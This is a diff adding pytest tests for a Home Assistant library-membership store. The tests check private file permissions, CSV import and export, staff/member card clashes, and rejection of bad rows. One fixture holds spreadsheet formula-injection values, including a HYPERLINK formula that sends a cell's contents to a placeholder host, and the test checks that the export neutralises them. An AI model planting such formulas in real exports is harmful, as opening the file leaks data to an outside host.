@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 from dataclasses import replace
 from datetime import date
+import io
 import os
 from pathlib import Path
 import signal
@@ -18,6 +20,8 @@ from custom_components.smart_library.engine.membership import (
     MemberError,
     Reason,
     Restriction,
+    StaffCard,
+    parse_windows,
 )
 from custom_components.smart_library.engine.pins import hash_pin, new_pepper
 from custom_components.smart_library.engine.store import MembershipStore
@@ -194,3 +198,114 @@ def test_an_acknowledged_change_survives_kill_9(tmp_path: Path) -> None:
     assert process.wait(timeout=10) == -signal.SIGKILL
     store = MembershipStore(db)
     assert store.require("50000001").restriction is Restriction.BARRED
+
+
+def test_the_store_is_private_to_its_user(tmp_path: Path) -> None:
+    """The database, its WAL and its folder can be read by Home Assistant's user alone."""
+    folder = tmp_path / "smart_library"
+    store = MembershipStore(folder / "m.db")
+    store.add(Member("60000001", date(1980, 1, 1), date(2028, 1, 1)), TODAY)
+    modes = {
+        p.name: p.stat().st_mode & 0o777
+        for p in (folder, *folder.iterdir())
+        if p.name in {"smart_library", "m.db", "m.db-wal", "m.db-shm"}
+    }
+    assert modes == {
+        "smart_library": 0o700,
+        "m.db": 0o600,
+        "m.db-wal": 0o600,
+        "m.db-shm": 0o600,
+    }
+    store.close()
+    # A store made world-readable before (0644 was the default) is made private on opening.
+    (folder / "m.db").chmod(0o644)
+    folder.chmod(0o755)
+    MembershipStore(folder / "m.db").close()
+    assert (folder / "m.db").stat().st_mode & 0o777 == 0o600
+    assert folder.stat().st_mode & 0o777 == 0o700
+
+
+FORMULAS = {
+    "60000011": '=HYPERLINK("http://x.example/?"&A1,"Click")',
+    "60000012": "+44 116 000 0000",
+    "60000013": "-2+3",
+    "60000014": "@SUM(A1:A9)",
+    "60000015": "\t=1+1",
+    "60000016": "\r=1+1",
+    "60000017": "'=already quoted",
+    "60000018": "O'Brien",
+}
+
+
+def test_the_export_is_safe_in_a_spreadsheet_and_reads_back_the_same(
+    tmp_path: Path,
+) -> None:
+    """No cell of an export starts a formula; importing the export gives the same names."""
+    store = MembershipStore(tmp_path / "m.db")
+    for card, name in FORMULAS.items():
+        store.add(Member(card, date(1980, 1, 1), date(2028, 1, 1), name), TODAY)
+    text = store.export_csv()
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK" in text and "O'Brien" in text
+    other = MembershipStore(tmp_path / "n.db")
+    report = other.import_csv(text, TODAY)
+    assert (report.taken, report.refused) == (len(FORMULAS), [])
+    assert {m.card: m.name for m in other.members()} == FORMULAS
+    assert other.export_csv() == text
+
+
+def test_one_card_one_holder(tmp_path: Path) -> None:
+    """A member's number cannot become a staff card's, nor a staff card's a member's."""
+    store = MembershipStore(tmp_path / "m.db")
+    staff = StaffCard("60000021", "Cleaner", "cleaner", parse_windows("06:00-08:00"))
+    store.save_staff(staff)
+    with pytest.raises(MemberError, match="card_is_staff") as err:
+        store.add(Member("60000021", date(1980, 1, 1), date(2028, 1, 1)), TODAY)
+    assert "60000021" not in str(err.value.placeholders)
+    report = store.import_csv(
+        "card,birth_date,card_expiry\n"
+        "60000021,1980-01-01,2028-01-01\n"
+        "60000022,1980-01-01,2028-01-01\n",
+        TODAY,
+    )
+    assert report.taken == 1
+    assert report.refused == [{"row": 2, "card": "••••0021", "reason": "card_is_staff"}]
+    assert store.member("60000021") is None
+    with pytest.raises(MemberError, match="card_is_a_member"):
+        store.save_staff(replace(staff, card="60000022"))
+    assert store.staff("60000022") is None
+    store.save_staff(replace(staff, name="Morning cleaner"))  # the holder may change it
+
+
+def test_a_file_that_is_not_csv_changes_nothing(tmp_path: Path) -> None:
+    """A field over the csv module's limit (131,072) is a translated refusal, not a crash."""
+    store = MembershipStore(tmp_path / "m.db")
+    store.add(Member("60000031", date(1980, 1, 1), date(2028, 1, 1), "Kept"), TODAY)
+    before = store.export_csv()
+    huge = "x" * 131_073
+    text = (
+        "card,name,birth_date,card_expiry\n"
+        "60000032,Fine,1980-01-01,2028-01-01\n"
+        f"60000033,{huge},1980-01-01,2028-01-01\n"
+    )
+    with pytest.raises(MemberError, match="import_field_too_long") as err:
+        store.import_csv(text, TODAY)
+    assert err.value.placeholders == {"line": "3"}
+    assert store.export_csv() == before
+
+
+def test_an_unstorable_name_is_a_refused_row(tmp_path: Path) -> None:
+    """A lone surrogate in a name refuses that row only; the other rows are taken."""
+    store = MembershipStore(tmp_path / "m.db")
+    report = store.import_csv(
+        "card,name,birth_date,card_expiry\n"
+        "60000041,Bad \ud800,1980-01-01,2028-01-01\n"
+        "60000042,Good,1980-01-01,2028-01-01\n",
+        TODAY,
+    )
+    assert report.taken == 1
+    assert report.refused == [{"row": 2, "card": "••••0041", "reason": "invalid_text"}]
+    with pytest.raises(MemberError, match="invalid_text"):
+        store.change("60000042", lambda m: replace(m, name="\udfff"))
+    assert store.require("60000042").name == "Good"
